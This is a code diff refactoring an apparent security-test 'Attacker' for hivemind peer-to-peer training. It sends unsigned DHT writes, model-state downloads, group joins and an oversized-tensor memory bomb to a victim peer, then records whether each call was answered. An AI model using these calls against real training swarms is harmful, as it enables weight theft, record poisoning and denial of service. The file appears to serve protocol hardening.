@@ -14,24 +14,15 @@ from hivemind.p2p import P2P, P2PDaemonError, P2PHandlerError, PeerID
 from hivemind.proto import averaging_pb2, dht_pb2, runtime_pb2
 from hivemind.utils import MSGPackSerializer, get_dht_time
 
-ANSWER_S = 20.0
+ATTACK_S = 40.0
 DHT = "CorrectedProtocol"
 
 
 class Attacker:
-    """Calls a victim's handlers with whatever it likes.
-
-    Args:
-        p2p: connected to the victim.
-        victim: its id.
-        run: its run.
-        certificate: shown before each call.
-    """
+    """Calls a victim's handlers with whatever it likes, after a certificate."""
 
     def __init__(self, p2p: P2P, victim: PeerID, run: str, certificate: bytes) -> None:
         self.p2p, self.victim, self.run, self.certificate = p2p, victim, run, certificate
-        self.grads = f"{run}_grad_averager::ExactGradientAverager"
-        self.state = f"{run}_state_averager::ExactStateAverager"
 
     async def call(self, handler: str, request: Any) -> bytes:
         """Call a handler that takes one message."""
@@ -54,50 +45,37 @@ class Attacker:
             raise P2PHandlerError(content.decode(errors="replace"))
         return content
 
-    async def ping(self) -> None:
-        """Say hello."""
-        await self.call(f"{DHT}.rpc_ping", dht_pb2.PingRequest())
-
-    async def read_records(self) -> None:
-        """Ask for what is stored in the DHT."""
-        await self.call(f"{DHT}.rpc_find", dht_pb2.FindRequest(keys=[self._key()], peer=dht_pb2.NodeInfo()))
-
-    async def take_the_state(self) -> None:
-        """Download weights."""
-        content = await self.call(f"{self.state}.rpc_offer_state", _data(b"", [0, b""], 0))
-        offer = averaging_pb2.DownloadData.FromString(content)
-        _, digest = MSGPackSerializer.loads(offer.metadata)
-        await self.stream(f"{self.state}.rpc_send_state", _data(digest, 0, 1))
-
-    async def join_a_group(self) -> None:
-        """Ask to be averaged with."""
-        request = averaging_pb2.JoinRequest(schema_hash=b"x", expiration=get_dht_time() + 60)
-        await self.stream(f"{self.grads}.rpc_join_group", request)
-
-    async def send_a_part(self) -> None:
-        """Send something to be averaged: eight bytes that say that they are 64 MB."""
-        bomb = runtime_pb2.Tensor(size=[1], dtype="(2000000,)f8", buffer=bytes(8))
-        part = averaging_pb2.AveragingData(
-            code=averaging_pb2.PART_FOR_AVERAGING, group_id=b"x", weight=1e6, tensor_part=bomb
-        )
-        await self.stream(f"{self.grads}.rpc_aggregate_part", part)
-
-    async def write_a_record(self) -> None:
-        """Store something in the DHT that nobody has signed."""
-        request = dht_pb2.StoreRequest(
-            keys=[self._key()],
-            subkeys=[MSGPackSerializer.dumps(b"mine")],
-            values=[MSGPackSerializer.dumps(1)],
-            expiration_time=[get_dht_time() + 60],
-            in_cache=[False],
-            peer=dht_pb2.NodeInfo(),
-        )
-        answer = dht_pb2.StoreResponse.FromString(await self.call(f"{DHT}.rpc_store", request))
-        if not any(answer.store_ok):
-            raise P2PHandlerError("the record was not kept")
-
-    def _key(self) -> bytes:
-        return bytes(DHTID.generate(source=f"{self.run}_progress").to_bytes())
+    async def make(self, attack: str) -> None:
+        """Make an attack; an error says that it came to nothing."""
+        grads = f"{self.run}_grad_averager::ExactGradientAverager"
+        state = f"{self.run}_state_averager::ExactStateAverager"
+        key, until = bytes(DHTID.generate(source=f"{self.run}_progress").to_bytes()), get_dht_time() + 60
+        anybody = dht_pb2.NodeInfo()
+        match attack:
+            case "ping":
+                await self.call(f"{DHT}.rpc_ping", dht_pb2.PingRequest())
+            case "read_records":
+                await self.call(f"{DHT}.rpc_find", dht_pb2.FindRequest(keys=[key], peer=anybody))
+            case "write_a_record":  # that nobody has signed
+                place, value = map(MSGPackSerializer.dumps, (b"mine", 1))
+                record = {"keys": [key], "subkeys": [place], "values": [value], "expiration_time": [until]}
+                request = dht_pb2.StoreRequest(**record, in_cache=[False], peer=anybody)
+                answer = await self.call(f"{DHT}.rpc_store", request)
+                if not any(dht_pb2.StoreResponse.FromString(answer).store_ok):
+                    raise P2PHandlerError("the record was not kept")
+            case "take_the_state":
+                answer = await self.call(f"{state}.rpc_offer_state", _data(b"", [0, b""], 0))
+                offer = averaging_pb2.DownloadData.FromString(answer)
+                _, digest = MSGPackSerializer.loads(offer.metadata)
+                await self.stream(f"{state}.rpc_send_state", _data(digest, 0, 1))
+            case "join_a_group":
+                wish = averaging_pb2.JoinRequest(schema_hash=b"x", expiration=until)
+                await self.stream(f"{grads}.rpc_join_group", wish)
+            case "send_a_part":  # eight bytes that say that they are 64 MB
+                bomb = runtime_pb2.Tensor(size=[1], dtype="(2000000,)f8", buffer=bytes(8))
+                about = {"code": averaging_pb2.PART_FOR_AVERAGING, "group_id": b"x", "weight": 1e6}
+                part = averaging_pb2.AveragingData(**about, tensor_part=bomb)
+                await self.stream(f"{grads}.rpc_aggregate_part", part)
 
 
 def _data(*content: object) -> averaging_pb2.DownloadData:
@@ -114,18 +92,17 @@ async def attack(
         run: its run.
         key_file: the attacker's identity.
         certificate: see `Attacker`.
-        names: of `Attacker`'s methods.
+        names: see `Attacker.make`.
     """
     p2p = await P2P.create(
         initial_peers=[address], dht_mode="client", no_listen=True, identity_path=key_file, auto_nat=False
     )
-    victim = PeerID.from_base58(address.rpartition("/p2p/")[2])
-    attacker = Attacker(p2p, victim, run, certificate)
+    attacker = Attacker(p2p, PeerID.from_base58(address.rpartition("/p2p/")[2]), run, certificate)
     try:
         for name in names:
             try:
-                async with asyncio.timeout(2 * ANSWER_S):
-                    await getattr(attacker, name)()
+                async with asyncio.timeout(ATTACK_S):
+                    await attacker.make(name)
                 yield name, "answered"
             except (P2PHandlerError, P2PDaemonError, TimeoutError, OSError, EOFError) as error:
                 yield name, f"{type(error).__name__}: {error}"
